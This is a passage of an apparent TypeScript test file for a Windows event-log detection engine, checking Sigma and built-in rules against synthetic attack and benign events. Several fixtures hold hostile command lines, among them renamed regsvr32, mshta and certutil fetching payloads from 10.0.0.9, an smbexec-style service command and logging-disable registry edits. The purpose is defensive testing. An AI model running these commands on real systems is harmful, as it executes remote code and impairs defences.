    const HIJACK = 'RDP Session Disconnected By Another Session';
    expect(hits([lsm(1, 2, 3)]).get(HIJACK)).toEqual({ level: 'low', tactics: ['lateral-movement'] });
    expect(titlesOf(lsm(2, 2, 2))).not.toContain(HIJACK);
    const rcm = (t: number, id: number): Ev => win(t, 'Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational', 'Microsoft-Windows-TerminalServices-RemoteConnectionManager', id, {});
    expect(hits([rcm(3, 20506)]).get('RDP Shadow Session Started')?.level).toBe('low');
    expect(titlesOf(rcm(4, 20504))).not.toContain('RDP Shadow Session Started');
  });

  it('RDP enabled or weakened through the registry (4657, medium); the value set back to deny is not', () => {
    const RDP = 'RDP Enabled Or Weakened In The Registry (4657)';
    const reg = (t: number, value: string, data: string): Ev =>
      sec(t, 4657, { SubjectUserName: 'alice', ObjectName: '\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\Terminal Server', ObjectValueName: value, OperationType: '%%1905', OldValue: '1', NewValue: data, ProcessName: 'C:\\Windows\\System32\\reg.exe' });
    expect(hits([reg(1, 'fDenyTSConnections', '0')]).get(RDP)).toEqual({ level: 'medium', tactics: ['stealth', 'lateral-movement'] });
    expect(titlesOf(reg(2, 'fDenyTSConnections', '1'))).not.toContain(RDP);
    expect(titlesOf(reg(3, 'fSingleSessionPerUser', '0'))).not.toContain(RDP);
  });

  it('LDAP searches logged by a domain controller (Directory Service 1644): any is informational, roasting and delegation filters low; an ordinary filter is not the filter rule', () => {
    const ds = (t: number, filter: string): Ev =>
      win(t, 'Directory Service', 'Microsoft-Windows-ActiveDirectory_DomainService', 1644, { Data: ['10.0.0.57:50123', 'DC=corp,DC=example', filter, 'subtree', 'samaccountname', '1200', '1'] });
    const ROAST = 'LDAP Search For Roastable, Delegated Or Privileged Accounts';
    const h = hits([ds(1, ' ( & (objectCategory=CN=Person,CN=Schema,CN=Configuration,DC=corp,DC=example) (servicePrincipalName=*) ) ')]);
    expect(h.get(ROAST)).toEqual({ level: 'low', tactics: ['credential-access', 'discovery'] });
    expect(h.get('Expensive LDAP Search Logged By A Domain Controller')).toEqual({ level: 'informational', tactics: ['discovery'] });
    expect(titlesOf(ds(2, ' (userAccountControl:1.2.840.113556.1.4.803:=4194304) '))).toContain(ROAST);
    expect(titlesOf(ds(3, ' (objectClass=printQueue) '))).not.toContain(ROAST);
  });

  it('SQL Server audit: UNC paths in xp_dirtree-like procedures (medium), unsafe CLR assemblies (medium), databases dropped (low), sa logins that succeed (low); local paths, safe assemblies and other logins are not', () => {
    const audit = (t: number, text: string, id = 33205): Ev => win(t, 'Application', 'MSSQLSERVER', id, { Data: [text] });
    const UNC = 'SQL Server Procedure Pointed At A Network Path (audit 33205)';
    expect(hits([audit(1, "action_id:EX\nobject_name:xp_dirtree\nstatement:EXEC master..xp_dirtree '\\\\10.0.0.66\\share'\n")]).get(UNC)).toEqual({ level: 'medium', tactics: ['credential-access'] });
    expect(titlesOf(audit(2, "action_id:EX\nobject_name:xp_dirtree\nstatement:EXEC master..xp_dirtree 'D:\\backup'\n"))).not.toContain(UNC);
    const CLR = 'SQL Server Unsafe CLR Assembly Or Extended Procedure Added (audit 33205)';
    expect(hits([audit(3, 'action_id:CR\nstatement:CREATE ASSEMBLY x FROM 0x4D5A WITH PERMISSION_SET = UNSAFE\n')]).get(CLR)).toEqual({ level: 'medium', tactics: ['persistence'] });
    expect(titlesOf(audit(4, 'action_id:CR\nstatement:CREATE ASSEMBLY x FROM 0x4D5A WITH PERMISSION_SET = SAFE\n'))).not.toContain(CLR);
    expect(hits([audit(5, 'action_id:DR\nstatement:DROP DATABASE [HR]\n')]).get('SQL Server Database Dropped (audit 33205)')).toEqual({ level: 'low', tactics: ['impact'] });
    expect(titlesOf(audit(10, 'action_id:DR\nstatement:DROP DATABASE AUDIT SPECIFICATION [spec]\n'))).not.toContain('SQL Server Database Dropped (audit 33205)');
    const SA = 'MSSQL Login With The Built-in sa Account Succeeded';
    expect(hits([audit(6, 'action_id:LGIS\nsucceeded:true\nserver_principal_name:sa\nclient_ip:10.0.0.57\n')]).get(SA)?.level).toBe('low');
    expect(titlesOf(win(7, 'Application', 'MSSQLSERVER', 18454, { Data: ['sa', ' [CLIENT: 10.0.0.57]'] }))).toContain(SA);
    expect(titlesOf(audit(8, 'action_id:LGIS\nsucceeded:true\nserver_principal_name:sales_app\n'))).not.toContain(SA);
    expect(titlesOf(win(9, 'Application', 'MSSQLSERVER', 18454, { Data: ['CORP\\alice', ' [CLIENT: 10.0.0.57]'] }))).not.toContain(SA);
  });

  it('ten different services stopped on one host within two minutes (value_count, low, impact); nine, or one service stopped repeatedly, are not, and single stops are not reported', () => {
    const stop = (t: number, name: string, host = 'SRV01'): Ev => win(t, 'System', 'Service Control Manager', 7036, { param1: name, param2: 'stopped' }, host);
    const BURST = 'Many Different Services Stopped On One Host';
    const h = hits(Array.from({ length: 11 }, (_, i) => stop(i * 5, `Service ${i}`)));
    expect(h.get(BURST)).toEqual({ level: 'low', tactics: ['impact'] });
    expect(h.has('Service Stopped (base of the service-stop burst)')).toBe(false);
    expect(hits(Array.from({ length: 9 }, (_, i) => stop(i * 5, `Service ${i}`))).has(BURST)).toBe(false);
    expect(hits(Array.from({ length: 12 }, (_, i) => stop(i * 5, 'Windows Update'))).has(BURST)).toBe(false);
    expect(hits(Array.from({ length: 12 }, (_, i) => stop(i * 5, `Service ${i}`, `HOST${i}`))).has(BURST)).toBe(false);
  });

  it('service tickets for fifteen computers asked by one user from one address in five minutes (value_count, low, discovery); fourteen, a computer account asking, or one host asked repeatedly are not', () => {
    const tgs = (t: number, host: string, user = 'alice@CORP.EXAMPLE', ip = '::ffff:10.0.0.57'): Ev =>
      sec(t, 4769, { TargetUserName: user, ServiceName: host, Status: '0x0', TicketEncryptionType: '0x12', IpAddress: ip });
    const SWEEP = 'Service Tickets For Many Computers Requested By One Source';
    const h = hits(Array.from({ length: 16 }, (_, i) => tgs(i * 10, `WS${i}$`)));
    expect(h.get(SWEEP)).toEqual({ level: 'low', tactics: ['discovery'] });
    expect(h.has('Kerberos Service Ticket For A Computer Requested By A User (base of the host-ticket sweep)')).toBe(false);
    expect(hits(Array.from({ length: 14 }, (_, i) => tgs(i * 10, `WS${i}$`))).has(SWEEP)).toBe(false);
    expect(hits(Array.from({ length: 16 }, (_, i) => tgs(i * 10, `WS${i}$`, 'SCCM01$@CORP.EXAMPLE'))).has(SWEEP)).toBe(false);
    expect(hits(Array.from({ length: 16 }, (_, i) => tgs(i * 10, 'FS01$'))).has(SWEEP)).toBe(false);
  });

  it('WMI script consumer host loaded (WMI-Activity 5857 scrcons, medium); a provider loaded by WmiPrvSE from System32 is not', () => {
    const SCR = 'WMI Script Event Consumer Host Loaded';
    const wmi = (t: number, name: string, host: string, p: string): Ev =>
      win(t, 'Microsoft-Windows-WMI-Activity/Operational', 'Microsoft-Windows-WMI-Activity', 5857, { ProviderName: name, Code: '0x0', HostProcess: host, ProcessID: 2244, ProviderPath: p });
    expect(hits([wmi(1, 'ActiveScriptEventConsumer', 'scrcons.exe', '%SystemRoot%\\system32\\wbem\\scrcons.exe')]).get(SCR)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation'] });
    expect(titlesOf(wmi(2, 'CIMWin32', 'wmiprvse.exe', '%systemroot%\\system32\\wbem\\cimwin32.dll'))).not.toContain(SCR);
  });

  it('a service installed in the session of a network logon from another host (4624 type 3 + 4697, temporal, medium); another session is not', () => {
    const SVC = 'Service Installed From A Network Logon Session';
    const logon = sec(1, 4624, { TargetUserName: 'alice', TargetUserSid: 'S-1-5-21-1-2-3-1104', LogonType: 3, TargetLogonId: '0x5a1b2', IpAddress: '10.0.0.57', LogonProcessName: 'Kerberos', AuthenticationPackageName: 'Kerberos' });
    const svc = (t: number, session: string): Ev => sec(t, 4697, { SubjectUserName: 'alice', SubjectLogonId: session, ServiceName: 'upd', ServiceFileName: 'C:\\Windows\\upd.exe', ServiceType: '0x10', ServiceStartType: 3, ServiceAccount: 'LocalSystem' });
    expect(hits([logon, svc(2, '0x5a1b2')]).get(SVC)).toEqual({ level: 'medium', tactics: ['execution', 'persistence', 'privilege-escalation', 'lateral-movement'] });
    expect(hits([logon, svc(2, '0x3e7')]).has(SVC)).toBe(false);
  });

  it('WFP 5156: twenty ports from one program in a minute (port scan, medium), ten addresses on one administration port (host sweep, medium); dynamic ports, nine hosts and loopback are not', () => {
    const wfp = (t: number, port: number, addr = '10.0.0.12', app = '\\device\\harddiskvolume2\\tools\\scanner.exe'): Ev =>
      sec(t, 5156, { Application: app, Direction: '%%14593', SourceAddress: '10.0.0.57', SourcePort: '50000', DestAddress: addr, DestPort: String(port), Protocol: 6 });
    const SCAN = 'Many Destination Ports Contacted By One Program (WFP)';
    expect(hits(Array.from({ length: 25 }, (_, i) => wfp(i, 20 + i))).get(SCAN)).toEqual({ level: 'medium', tactics: ['discovery'] });
    expect(hits(Array.from({ length: 25 }, (_, i) => wfp(i, 50000 + i))).has(SCAN)).toBe(false);
    expect(hits(Array.from({ length: 25 }, (_, i) => wfp(i, 20 + i, '127.0.0.1'))).has(SCAN)).toBe(false);
    const SWEEP = 'Many Hosts Contacted On One Administration Port By One Program (WFP)';
    expect(hits(Array.from({ length: 12 }, (_, i) => wfp(i, 445, `10.0.0.${i + 1}`))).get(SWEEP)?.level).toBe('medium');
    expect(hits(Array.from({ length: 9 }, (_, i) => wfp(i, 445, `10.0.0.${i + 1}`))).has(SWEEP)).toBe(false);
    expect(hits(Array.from({ length: 12 }, (_, i) => wfp(i, 443, `10.0.0.${i + 1}`))).has(SWEEP)).toBe(false);
  });

  it('WFP 5152: ten local ports probed from one address in a minute (inbound port scan, medium); nine ports, two sources or loopback are not', () => {
    const drop = (t: number, port: number, from = '10.0.1.200'): Ev =>
      sec(t, 5152, { ProcessId: '0', Application: '-', Direction: '%%14592', SourceAddress: from, SourcePort: '40848', DestAddress: '10.0.1.52', DestPort: String(port), Protocol: '6', LayerName: '%%14597' });
    const SCAN = 'Many Local Ports Probed From One Address (WFP)';
    expect(hits(Array.from({ length: 12 }, (_, i) => drop(i, 20 + i))).get(SCAN)).toEqual({ level: 'medium', tactics: ['discovery'] });
    expect(hits(Array.from({ length: 9 }, (_, i) => drop(i, 20 + i))).has(SCAN)).toBe(false);
    expect(hits(Array.from({ length: 12 }, (_, i) => drop(i, 20 + i, i % 2 === 0 ? '10.0.1.200' : '10.0.1.201'))).has(SCAN)).toBe(false);
    expect(hits(Array.from({ length: 12 }, (_, i) => drop(i, 20 + i, '127.0.0.1'))).has(SCAN)).toBe(false);
  });

  it('DNS-Client 3008 is a DNS query as Sysmon 22 is: long encoded labels under one domain (medium burst); ordinary names are not', () => {
    const q = (t: number, name: string): Ev =>
      win(t, 'Microsoft-Windows-DNS-Client/Operational', 'Microsoft-Windows-DNS-Client', 3008, { QueryName: name, QueryType: '16', QueryOptions: '140737488355328', QueryStatus: '0', QueryResults: '' });
    const BURST = 'Many Long Encoded DNS Names Looked Up By One Process';
    const labels = Array.from({ length: 11 }, (_, i) => q(i, `${(0x1f3a5c7e9b + i * 7919).toString(16).repeat(4)}.${i}.cdn-sync-relay.net`));
    expect(hits(labels).get(BURST)?.level).toBe('medium');
    expect(hits(Array.from({ length: 11 }, (_, i) => q(i, `host${i}.corp.example`))).has(BURST)).toBe(false);
  });

  it('event log files deleted from disk (4663 DELETE on winevt\\Logs\\*.evtx, medium); a read of the file or a deleted file elsewhere is not', () => {
    const DEL = 'Event Log File Deleted (object access)';
    const obj = (t: number, name: string, access: string, mask: string): Ev =>
      sec(t, 4663, { SubjectUserName: 'alice', ObjectServer: 'Security', ObjectType: 'File', ObjectName: name, AccessList: access, AccessMask: mask, ProcessName: 'C:\\Windows\\System32\\cmd.exe' });
    expect(hits([obj(1, 'C:\\Windows\\System32\\winevt\\Logs\\Security.evtx', '%%1537\n', '0x10000')]).get(DEL)).toEqual({ level: 'medium', tactics: ['defense-impairment'] });
    expect(titlesOf(obj(2, 'C:\\Windows\\System32\\winevt\\Logs\\Security.evtx', '%%4416\n', '0x1'))).not.toContain(DEL);
    expect(titlesOf(obj(3, 'C:\\Users\\alice\\Documents\\notes.evtx', '%%1537\n', '0x10000'))).not.toContain(DEL);
  });
});

// The classes of built-in auditing an attack log is often made of, written as Windows and Sysmon write them (field names
// and value spellings as in real EVTX, `%%` codes, EventData without names, localised group names, renamed binaries
// with any image name): each variant must be tagged by the default set (SigmaHQ sets from the bundle, the built-in rules
// from their folder) with a technique of its class's tactic, at any level.
describe('classes of built-in auditing, as Windows writes them, through the default set', () => {
  const d = shippedRulesDir();
  const defaults = loadSigmaRules({
    minLevel: 'informational',
    sources: [{ name: 'rules', path: path.join(d, 'rules') }, { name: 'rules-emerging-threats', path: path.join(d, 'rules-emerging-threats') }, { name: 'rules-builtin-folder', path: path.join(d, 'rules-builtin') }],
  });
  const lookup = attackLookup();
  let t = 0;
  const w = (channel: string, provider: string, eventId: number, data: JsonRecord): Ev => win(t++, channel, provider, eventId, data, 'WS01');
  const S = (id: number, data: JsonRecord): Ev => w('Security', 'Microsoft-Windows-Security-Auditing', id, data);
  const SYS = (id: number, data: JsonRecord, provider = 'Service Control Manager'): Ev => w('System', provider, id, data);
  const SM = (id: number, data: JsonRecord): Ev => w('Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', id, data);
  const unnamed = (...values: string[]): JsonRecord => ({ Data: { '#text': values } });
  const DI = ['discovery'];
  const LM = ['lateral-movement'];
  const SVC = ['persistence', 'lateral-movement', 'execution'];
  const DE = ['stealth', 'defense-impairment'];
  const PER = ['persistence'];
  const S32 = 'C:\\Windows\\System32\\';
  const g4799 = (caller: string, group = 'Administrators', sid = 'S-1-5-32-544'): Ev =>
    S(4799, { TargetUserName: group, TargetDomainName: 'Builtin', TargetSid: sid, SubjectUserSid: 'S-1-5-21-1-2-3-1104', SubjectUserName: 'bob', SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7a1', CallerProcessId: '0x1a2c', CallerProcessName: caller });
  const s7045 = (name: string, image: string, type = 'user mode service', start = 'demand start'): Ev => SYS(7045, { ServiceName: name, ImagePath: image, ServiceType: type, StartType: start, AccountName: 'LocalSystem' });
  const rdpc = (id: number, data: JsonRecord): Ev => w('Microsoft-Windows-TerminalServices-RDPClient/Operational', 'Microsoft-Windows-TerminalServices-ClientActiveXCore', id, data);
  const core = (id: number, data: JsonRecord): Ev => w('Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational', 'Microsoft-Windows-RemoteDesktopServices-RdpCoreTS', id, data);
  const lsm = (id: number, data: JsonRecord): Ev => w('Microsoft-Windows-TerminalServices-LocalSessionManager/Operational', 'Microsoft-Windows-TerminalServices-LocalSessionManager', id, data);
  const rcm = (id: number, data: JsonRecord): Ev => w('Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational', 'Microsoft-Windows-TerminalServices-RemoteConnectionManager', id, data);
  const logon = (type: string): Ev => S(4624, { TargetUserName: 'bob', TargetDomainName: 'CORP', LogonType: type, IpAddress: '10.0.0.5', WorkstationName: 'WS02', LogonProcessName: 'User32 ', AuthenticationPackageName: 'Negotiate', ProcessName: `${S32}svchost.exe` });
  const dcom = (where: string, what: string, address: string, provider = 'Microsoft-Windows-DistributedCOM'): Ev =>
    SYS(10016, { param1: 'application-specific', param2: where, param3: what, param4: '{C2F03A33-21F5-47FA-B4BB-156362A2F239}', param5: '{316CDED5-E4AE-4B15-9113-7055D84DCC97}', param6: 'CORP', param7: 'bob', param8: 'S-1-5-21-1-2-3-1104', param9: address, param10: 'Unavailable', param11: 'Unavailable' }, provider);
  const net3 = (image: string, port: string, initiated = 'true'): Ev =>
    SM(3, { Image: image, User: 'CORP\\bob', Protocol: 'tcp', Initiated: initiated, SourceIsIpv6: 'false', SourceIp: '10.0.0.5', SourceHostname: 'WS01.corp.example', SourcePort: '50123', DestinationIsIpv6: 'false', DestinationIp: '10.0.0.12', DestinationHostname: 'DC01.corp.example', DestinationPort: port });
  const reg = (id: number, key: string, details: string, image = `${S32}reg.exe`, eventType = 'SetValue'): Ev => SM(id, { EventType: eventType, Image: image, TargetObject: key, Details: details, User: 'CORP\\bob' });
  const PS = 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\';
  const CAT = 'HKLM\\System\\CurrentControlSet\\Services\\WinSock2\\Parameters\\Protocol_Catalog9\\Catalog_Entries64\\000000000007\\PackedCatalogItem';
  const renamed = (image: string, original: string, description: string, cmd: string, withOriginal = true): Ev =>
    SM(1, { Image: image, CommandLine: cmd, ...(withOriginal ? { OriginalFileName: original } : {}), Description: description, Product: 'Microsoft® Windows® Operating System', Company: 'Microsoft Corporation', ParentImage: `${S32}cmd.exe`, ParentCommandLine: 'cmd.exe', User: 'CORP\\bob', IntegrityLevel: 'Medium', CurrentDirectory: 'C:\\Users\\bob\\' });
  const TMP = 'C:\\Users\\bob\\AppData\\Local\\Temp\\';
  const variants: [string, string[], Ev[]][] = [
    ['4799 net1', DI, [g4799(`${S32}net1.exe`)]],
    ['4799 net', DI, [g4799(`${S32}net.exe`)]],
    ['4799 powershell', DI, [g4799(`${S32}WindowsPowerShell\\v1.0\\powershell.exe`)]],
    ['4799 unknown program', DI, [g4799(`${TMP}enum.exe`)]],
    ['4799 French group name', DI, [g4799(`${S32}net1.exe`, 'Administrateurs')]],
    ['4799 Remote Desktop Users', DI, [g4799(`${S32}net1.exe`, 'Remote Desktop Users', 'S-1-5-32-555')]],
    ['4799 caller -', DI, [g4799('-')]],
    ['4799 EventData without names', DI, [S(4799, unnamed('Administrators', 'Builtin', 'S-1-5-32-544', 'S-1-5-21-1-2-3-1104', 'bob', 'CORP', '0x3e7a1', '0x1a2c', `${S32}net1.exe`))]],
    ['7045 PSEXESVC', SVC, [s7045('PSEXESVC', '%SystemRoot%\\PSEXESVC.exe')]],
    ['7045 random name in the Windows folder', SVC, [s7045('AbCd', '%systemroot%\\XyZwQrSt.exe')]],
    ['7045 smbexec-like command', SVC, [s7045('BTOBTO', '%COMSPEC% /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat & del %TEMP%\\execute.bat')]],
    ['7045 bare cmd.exe', SVC, [s7045('spoolsv', 'cmd.exe', 'user mode service', 'auto start')]],
    ['7045 program on an admin share', SVC, [s7045('updsvc', '\\\\10.0.0.5\\ADMIN$\\upd.exe')]],
    ['7045 %% codes', SVC, [s7045('WinUpd', 'C:\\Windows\\Temp\\upd.exe', '%%1040', '%%1035')]],
    ['7045 ordinary service', SVC, [s7045('MyAgent', '"C:\\Program Files\\Vendor\\agent.exe"', 'user mode service', 'auto start')]],
    ['7045 EventData without names', SVC, [SYS(7045, unnamed('WinUpd', 'C:\\Windows\\Temp\\upd.exe', 'user mode service', 'demand start', 'LocalSystem'))]],
    ['7045 param1-style data', SVC, [SYS(7045, { param1: 'WinUpd', param2: 'C:\\Windows\\Temp\\upd.exe', param3: 'user mode service', param4: 'demand start', param5: 'LocalSystem' })]],
    ...[1024, 1026, 1027, 1029, 1102].map((id): [string, string[], Ev[]] => [`RDPClient ${id}`, LM, [rdpc(id, id === 1027 ? { DomainName: 'CORP', SessionID: '3' } : id === 1029 ? { TraceMessage: 'abcdefghijklmnop=-CORP' } : { Name: 'Server Name', Value: '10.0.0.12', CustomLevel: 'Info' })]]),
    ['RdpCoreTs 131', LM, [core(131, { ConnType: 'TCP', ClientIP: '10.0.0.5:51234' })]],
    ['RdpCoreTs 98', LM, [core(98, {})]],
    ['RdpCoreTs 102', LM, [core(102, {})]],
    ['RdpCoreTs 103', LM, [core(103, { ReasonCode: '14' })]],
    ['RdpCoreTs 140', LM, [core(140, { IPString: '10.0.0.5' })]],
    ...[21, 22, 23, 24, 25].map((id): [string, string[], Ev[]] => [`LSM ${id}`, LM, [lsm(id, { User: 'CORP\\bob', SessionID: '3', ...(id === 23 ? {} : { Address: '10.0.0.5' }) })]]),
    ['LSM 39', LM, [lsm(39, { TargetSession: '3', Source: '5' })]],
    ['LSM 40', LM, [lsm(40, { Session: '3', Reason: '5' })]],
    ['RCM 1149', LM, [rcm(1149, { Param1: 'bob', Param2: 'CORP', Param3: '10.0.0.5' })]],
    ['4624 type 10', LM, [logon('10')]],
    ['4624 type 7 from another address', LM, [logon('7')]],
    ['10016 remote activation', LM, [dcom('Remote', 'Activation', '10.0.0.5')]],
    ['10016 local launch', LM, [dcom('Local', 'Launch', 'LocalHost (Using LRPC)')]],
    ['10016 provider DCOM', LM, [dcom('Local', 'Activation', 'LocalHost (Using LRPC)', 'DCOM')]],
    ['10016 EventData without names', LM, [SYS(10016, unnamed('application-specific', 'Local', 'Activation', '{C2F03A33-21F5-47FA-B4BB-156362A2F239}', '{316CDED5-E4AE-4B15-9113-7055D84DCC97}', 'CORP', 'bob', 'S-1-5-21-1-2-3-1104', 'LocalHost (Using LRPC)', 'Unavailable', 'Unavailable'), 'Microsoft-Windows-DistributedCOM')]],
    ...['net.exe:445', 'net1.exe:445', 'nltest.exe:389', 'ipconfig.exe:53', 'ARP.EXE:445', 'PING.EXE:445', 'nbtstat.exe:137', 'nslookup.exe:53', 'whoami.exe:389', 'systeminfo.exe:135'].map((s): [string, string[], Ev[]] => {
      const [n, p] = s.split(':') as [string, string];
      return [`Sysmon 3 ${n}`, DI, [net3(`${S32}${n}`, p)]];
    }),
    ['Sysmon 3 nmap', DI, [net3('C:\\Program Files (x86)\\Nmap\\nmap.exe', '445')]],
    ['Sysmon 3 net.exe, Initiated false', DI, [net3(`${S32}net.exe`, '445', 'false')]],
    ['Sysmon 13 ScriptBlockLogging 0', DE, [reg(13, `${PS}ScriptBlockLogging\\EnableScriptBlockLogging`, 'DWORD (0x00000000)')]],
    ['Sysmon 13 ScriptBlockLogging 0, user hive', DE, [reg(13, 'HKU\\S-1-5-21-1-2-3-1104\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging\\EnableScriptBlockLogging', 'DWORD (0x00000000)', `${S32}WindowsPowerShell\\v1.0\\powershell.exe`)]],
    ['Sysmon 13 ScriptBlockLogging binary data', DE, [reg(13, `${PS}ScriptBlockLogging\\EnableScriptBlockLogging`, 'Binary Data')]],
    ['Sysmon 13 ModuleLogging 0', DE, [reg(13, `${PS}ModuleLogging\\EnableModuleLogging`, 'DWORD (0x00000000)')]],
    ['Sysmon 13 Transcription 0', DE, [reg(13, `${PS}Transcription\\EnableTranscripting`, 'DWORD (0x00000000)')]],
    ['Sysmon 13 ExecutionPolicy Bypass (policy)', DE, [reg(13, `${PS}ExecutionPolicy`, 'Bypass')]],
    ['Sysmon 13 ExecutionPolicy Unrestricted (ShellIds)', DE, [reg(13, 'HKLM\\SOFTWARE\\Microsoft\\PowerShell\\1\\ShellIds\\Microsoft.PowerShell\\ExecutionPolicy', 'Unrestricted')]],
    ['Sysmon 12 ScriptBlockLogging key deleted', DE, [reg(12, `${PS}ScriptBlockLogging`, '', `${S32}reg.exe`, 'DeleteKey')]],
    ['Sysmon 12 ModuleLogging key deleted', DE, [reg(12, `${PS}ModuleLogging`, '', `${S32}reg.exe`, 'DeleteKey')]],
    ['WS2HELP 1', PER, [w('Microsoft-Windows-Winsock-WS2HELP/Operational', 'Microsoft-Windows-Winsock-WS2HELP', 1, { LspName: 'Lsp', Catalog: '64', LspPath: 'C:\\Users\\bob\\lsp.dll' })]],
    ['Sysmon 13 Protocol_Catalog9 by an unknown program', PER, [reg(13, CAT, 'Binary Data', 'C:\\Users\\bob\\inst.exe')]],
    ['Sysmon 13 Protocol_Catalog9 by svchost', PER, [reg(13, CAT, 'Binary Data', `${S32}svchost.exe`)]],
    ['Sysmon 12 Protocol_Catalog9 entry created', PER, [reg(12, 'HKLM\\System\\CurrentControlSet\\Services\\WinSock2\\Parameters\\Protocol_Catalog9\\Catalog_Entries\\000000000013', '', 'C:\\Users\\bob\\inst.exe', 'CreateKey')]],
    ['renamed regsvr32', DE, [renamed(`${TMP}svc.exe`, 'REGSVR32.EXE', 'Microsoft(C) Register Server', 'svc.exe /s /u /i:http://10.0.0.9/a.sct scrobj.dll')]],
    ['renamed regsvr32, no OriginalFileName', DE, [renamed('C:\\Users\\bob\\Desktop\\notepad.exe', 'REGSVR32.EXE', 'Microsoft(C) Register Server', 'notepad.exe /s x.dll', false)]],
    ['renamed regsvr32, lower-case OriginalFileName', DE, [renamed('C:\\Users\\bob\\Desktop\\r.exe', 'regsvr32.exe', 'Microsoft(C) Register Server', 'r.exe /s x.dll')]],
    ['renamed rundll32', DE, [renamed(`${TMP}r.exe`, 'RUNDLL32.EXE', 'Windows host process (Rundll32)', 'r.exe x.dll,Start')]],
    ['renamed rundll32, no OriginalFileName', DE, [renamed(`${TMP}r.exe`, 'RUNDLL32.EXE', 'Windows host process (Rundll32)', 'r.exe x.dll,Start', false)]],
    ['renamed mshta, no OriginalFileName', DE, [renamed(`${TMP}h.exe`, 'MSHTA.EXE', 'Microsoft (R) HTML Application host', 'h.exe http://10.0.0.9/a.hta', false)]],
    ['renamed certutil, no OriginalFileName', DE, [renamed(`${TMP}c.exe`, 'CertUtil.exe', 'CertUtil.exe', 'c.exe -urlcache -f http://10.0.0.9/a a', false)]],
  ];
  it('every variant is tagged with a technique of its class\'s tactic', () => {
    expect(defaults.skipped.filter((x) => x.source.startsWith('rules-builtin-folder/'))).toEqual([]);
    const untagged = variants
      .filter(([, tactics, events]) => {
        const found = analyzeEvents(events, { sigma: defaults }).detections?.summary() ?? [];
        return !found.some((x) => [...x.tactics, ...x.techniques.flatMap((y) => lookup.technique(y).tactics)].some((y) => tactics.includes(y)));
      })
      .map(([name]) => name);
    expect(untagged).toEqual([]);
    expect(variants.length).toBe(73);
  });
});

describe('classes the anchors\' own built-in rules alert on, read from the rule files', () => {
  const folder = loadSigmaRules({ minLevel: 'informational', sources: [{ name: 'rules-builtin-folder', path: path.join(shippedRulesDir(), 'rules-builtin') }] });
  const found = (events: Ev[]): Map<string, { level: string; tactics: readonly string[] }> =>
    new Map((analyzeEvents(events, { sigma: folder }).detections?.summary() ?? []).map((d) => [d.title, { level: d.level, tactics: d.tactics }]));
  const titles = (e: Ev): string[] => [...found([e]).keys()];
  let t = 0;
  const w = (channel: string, provider: string, eventId: number, data: JsonRecord): Ev => win(t++, channel, provider, eventId, data, 'SRV01');
  const S = (id: number, data: JsonRecord): Ev => w('Security', 'Microsoft-Windows-Security-Auditing', id, data);
  const SCM = (id: number, data: JsonRecord): Ev => w('System', 'Service Control Manager', id, data);

  it('load without problems', () => {
    expect(folder.skipped.filter((x) => /\/(applocker|rdgateway)\/|remote_access_tool|safe_mode|ras_vpn|antimalware|antivirus_threat|controlled_folder|6410|4674|full_access|ssh_internal|manual_start|remote_registry_enabled/.test(x.source))).toEqual([]);
  });

  it('service permissions rewritten through the SCM (WRITE_DAC, low); a read of the descriptor is not', () => {
    const DAC = 'Service Permissions Rewritten Through The Service Control Manager';
    const op = (id: number, access: Record<string, string>): Ev =>
      S(id, { SubjectUserName: 'alice', ObjectServer: 'SC Manager', ObjectType: 'SERVICE OBJECT', ObjectName: 'updsvc', HandleId: '0x1f2e', PrivilegeList: 'SeSecurityPrivilege', ProcessName: 'C:\\Windows\\System32\\services.exe', ...access });
    expect(found([op(4674, { AccessMask: '%%1539' })]).get(DAC)).toEqual({ level: 'low', tactics: ['persistence', 'privilege-escalation', 'stealth'] });
    expect(titles(op(4656, { AccessList: '%%1538\r\n\t\t\t\t%%1539\r\n' }))).toContain(DAC);
    expect(titles(op(4674, { AccessMask: '%%1538' }))).not.toContain(DAC);
    // Full access (every service right) is what remote execution tools ask for: the other rule, not a permission change.
    const FULL = 'Service Opened With Full Access Through A Privilege (Security 4674)';
    const all = '%%1537 %%1538 %%1539 %%7184 %%7185 %%7186 %%7187 %%7188 %%7189 %%7190 %%7191 %%7192 ';
    const full = found([op(4674, { ObjectName: 'RemoteRegistry', AccessMask: all, PrivilegeList: 'SeTakeOwnershipPrivilege' })]);
    expect(full.get(FULL)).toEqual({ level: 'low', tactics: ['execution', 'persistence', 'privilege-escalation'] });
    expect(full.has(DAC)).toBe(false);
    expect(titles(op(4674, { SubjectUserName: 'SRV01$', SubjectUserSid: 'S-1-5-18', AccessMask: all }))).not.toContain(FULL);
    expect(titles(op(4674, { AccessMask: '%%1538 %%7184 %%7186' }))).not.toContain(FULL);
  });

  it('Security 6410 code integrity refusals (low) and outbound SSH to a private address (informational); the internet and inbound are not', () => {
    expect(found([S(6410, { param1: '\\Device\\HarddiskVolume3\\Windows\\System32\\lsass.exe', param2: '\\Device\\HarddiskVolume3\\Users\\bob\\x.dll' })]).get('File Refused By Code Integrity For Not Meeting A Process Security Requirements (Security 6410)')?.level).toBe('low');
    const SSH = 'Outbound SSH Connection To An Internal Address (WFP 5156)';
    const wfp = (data: JsonRecord): Ev => S(5156, { Application: '\\device\\harddiskvolume3\\windows\\system32\\openssh\\ssh.exe', Direction: '%%14593', SourceAddress: '10.0.0.21', SourcePort: '50432', DestAddress: '10.0.0.40', DestPort: '22', Protocol: '6', ...data });
    expect(found([wfp({})]).get(SSH)).toEqual({ level: 'informational', tactics: ['lateral-movement'] });
    expect(titles(wfp({ DestAddress: '140.82.121.3' }))).not.toContain(SSH);
    expect(titles(wfp({ Direction: '%%14592', SourcePort: '22', DestAddress: '10.0.0.21', DestPort: '50432' }))).not.toContain(SSH);
    expect(titles(wfp({ DestPort: '443' }))).not.toContain(SSH);
  });

  it('remote access tools installed as services (7045/4697, low, command and control); other services are not', () => {
    const RAT = 'Remote Access Tool Installed As A Service (System 7045)';
